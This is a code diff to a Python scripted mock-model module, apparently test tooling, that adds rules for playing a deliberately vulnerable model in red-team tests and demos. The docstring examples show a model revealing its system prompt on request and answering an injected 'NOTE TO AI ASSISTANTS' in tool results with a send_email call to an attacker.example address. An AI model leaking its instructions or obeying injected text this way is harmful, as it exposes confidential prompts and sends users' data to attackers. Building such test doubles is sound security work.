@@ -19,6 +19,15 @@ A script is a YAML list of rules; the first whose `match` occurs in the message 
       tool_call: {name: get_weather, arguments: {city: Paris}}
     - match: hello
       reply: Hello from the script.
+
+Rules can also play a model that is easy to attack, for red-team tests and demos:
+
+    - match: system prompt
+      decode: true                  # also match through vallum's de-obfuscation (base64, homoglyphs, ...)
+      reply: "My instructions: {{system}}"   # {{system}} is the request's system prompt
+    - match: NOTE TO AI ASSISTANTS
+      scope: conversation           # match in any message (tool results, documents), not only the last user one
+      tool_call: {name: send_email, arguments: {to: someone@attacker.example}}
 """
 
 from __future__ import annotations
@@ -27,7 +36,7 @@ import json
 import re
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
+from typing import Any, Literal
 
 import yaml
 from pydantic import BaseModel, ConfigDict, Field, TypeAdapter, ValidationError, model_validator
@@ -59,13 +68,21 @@ class ToolCall(BaseModel):
 
 
 class Rule(BaseModel):
-    """When `match` occurs in the last user message, reply with `reply` or call `tool_call`."""
+    """When `match` occurs in the last user message, reply with `reply` or call `tool_call`.
+
+    `scope: conversation` looks in every message of the request instead (tool results included);
+    `decode: true` also looks, case-insensitively, in vallum's normalised views of the text (look-alike
+    letters folded, spacing and leetspeak undone, base64/hex/URL/ROT13 decoded). `{{system}}` in a reply
+    becomes the request's system prompt.
+    """
 
     model_config = ConfigDict(frozen=True, extra="forbid")
 
     match: str
     reply: str | None = None
     tool_call: ToolCall | None = None
+    scope: Literal["last_user", "conversation"] = "last_user"
+    decode: bool = False
 
     @model_validator(mode="after")
     def _one_answer(self) -> Rule:
@@ -89,6 +106,25 @@ class Directives:
     broken: bool = False
     garbage: bool = False
     hang: bool = False
+
+
+@dataclass(frozen=True)
+class Context:
+    """What a rule may read beyond the last user message: the system prompt and every message's text."""
+
+    system: str = ""
+    messages: tuple[str, ...] = ()
+
+
+def _occurs(rule: Rule, text: str) -> bool:
+    if rule.match in text:
+        return True
+    if not rule.decode:
+        return False
+    from vallum.text.normalize import normalize  # only rules that ask for it pay for the import
+
+    needle = rule.match.lower()
+    return any(needle in view.text for view in normalize(text).views)
 
 
 @dataclass(frozen=True)
@@ -120,15 +156,23 @@ class Script:
             ) from error
         return cls(tuple(rules))
 
-    def answer(self, directives: Directives) -> Answer:
+    def answer(self, directives: Directives, context: Context | None = None) -> Answer:
         if directives.tool_call is not None:
             return Answer(tool_call=directives.tool_call)
         if directives.reply is not None:
             return Answer(text=directives.reply)
-        rule = next((rule for rule in self.rules if rule.match in directives.text), None)
+        context = context or Context(messages=(directives.text,))
+        rule = next((rule for rule in self.rules if self._matches(rule, directives.text, context)), None)
         if rule is not None:
-            return Answer(text=rule.reply or "", tool_call=rule.tool_call)
+            reply = (rule.reply or "").replace("{{system}}", context.system)
+            return Answer(text=reply, tool_call=rule.tool_call)
         return Answer(text=f"You said: {directives.text}")
+
+    @staticmethod
+    def _matches(rule: Rule, last_user: str, context: Context) -> bool:
+        if rule.scope == "conversation":
+            return any(_occurs(rule, text) for text in context.messages)
+        return _occurs(rule, last_user)
 
 
 def parse_directives(message: str) -> Directives:
